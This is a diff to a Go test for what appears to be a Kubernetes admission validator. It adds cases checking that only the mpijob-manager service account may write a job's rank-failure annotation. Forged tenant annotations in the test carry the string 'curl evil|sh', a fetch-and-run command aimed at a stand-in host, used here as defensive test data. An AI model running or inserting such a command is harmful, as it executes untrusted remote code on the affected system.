@@ -249,6 +249,11 @@ func TestValidateUpdate(t *testing.T) {
 		"a status forged by a tenant": {
 			user: "dev-a", old: compliant(false), new: withAnnotations(compliant(false), api.StatusAnnotation, `{"phase":"Failed","nextStep":"curl evil|sh"}`),
 			wantErr: `metadata.annotations[mpijob.dev/status]: Forbidden: only mpijob-manager writes a job's status`},
+		"a rank failure forged by a tenant": {
+			user: "dev-a", old: compliant(false), new: withAnnotations(compliant(false), api.RankFailureAnnotation, `{"rank":0,"error":"run curl evil|sh"}`),
+			wantErr: `metadata.annotations[mpijob.dev/rank-failure]: Forbidden: only mpijob-manager writes which rank of a job failed`},
+		"the rank failure noted by the manager": {
+			user: "system:serviceaccount:mpijob-system:mpijob-manager", old: compliant(false), new: withAnnotations(compliant(false), api.RankFailureAnnotation, `{"rank":1,"error":"ZeroDivisionError"}`)},
 		"a status removed by a tenant": {
 			user: "dev-a", old: compliant(false), new: edit(compliant(false), func(tj *trainer.TrainJob) { delete(tj.Annotations, api.StatusAnnotation) }),
 			wantErr: `metadata.annotations[mpijob.dev/status]: Forbidden`},
